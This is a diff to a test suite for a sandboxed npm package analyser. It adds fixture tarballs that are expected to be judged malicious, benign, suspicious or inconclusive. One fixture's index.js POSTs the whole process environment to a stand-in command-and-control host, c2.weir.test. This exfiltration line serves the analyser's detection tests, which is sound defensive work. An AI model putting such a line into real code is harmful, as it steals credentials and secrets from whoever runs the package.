@@ -226,16 +226,47 @@ describe('the real child', () => {
   });
 
   test('finds the same behind the walls and without them', async () => {
-    const request = input('walls.tgz', ATTACK);
-    const results: (AnalysisResult & { factsMs?: number })[] = [];
-    for (const isolation of [NO_ISOLATION, probeIsolation()]) {
-      await using pool = createAnalysisPool({ ...OPTIONS, memoryMbMax: 512 }, { isolation });
-      results.push({ ...(await pool.analyze(request, never)), elapsedMs: 0, factsMs: 0 });
+    const walls = probeIsolation();
+    const pack = (files: Readonly<Record<string, string>>): Buffer => {
+      const packed = tarball();
+      for (const [path, text] of Object.entries(files)) packed.file(`package/${path}`, text);
+      return packed.build();
+    };
+    const requests = [
+      input('walls.tgz', ATTACK),
+      input('quiet.tgz', pack({ 'package.json': '{"name":"b","version":"1.0.0"}', 'index.js': 'f();' })),
+      input(
+        'thief.tgz',
+        pack({
+          'package.json': '{"name":"c","version":"1.0.0"}',
+          'index.js': `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });`,
+        }),
+      ),
+      input('broken.tgz', 'no archive'),
+      input('cut.tgz', ATTACK.subarray(0, -40)),
+    ];
+    const isOwn = walls.prefix.some((word) => word === '--net' || word === '-n');
+    expect(isOwn).toBe(walls.network === 'none');
+    const results: object[][] = [];
+    for (const isolation of [NO_ISOLATION, walls]) {
+      // A pool that must have a namespace starts only where it gets one.
+      const network = isolation.network === 'none' ? 'none' : 'any';
+      await using pool = createAnalysisPool({ ...OPTIONS, memoryMbMax: 512, network }, { isolation });
+      const found: object[] = [];
+      for (const request of requests)
+        found.push({ ...(await pool.analyze(request, never)), elapsedMs: 0, factsMs: 0 });
+      results.push(found);
     }
 
-    expect(results[0]?.judgement.verdict).toBe('malicious');
+    expect(results[0]?.map((result) => (result as AnalysisResult).judgement.verdict)).toEqual([
+      'malicious',
+      'benign',
+      'suspicious',
+      'inconclusive',
+      'inconclusive',
+    ]);
     expect(results[1]).toEqual(results[0]);
-  });
+  }, 60_000);
 
   test('a path that is not there is ANALYSIS_INPUT', async () => {
     await using pool = createAnalysisPool(OPTIONS);
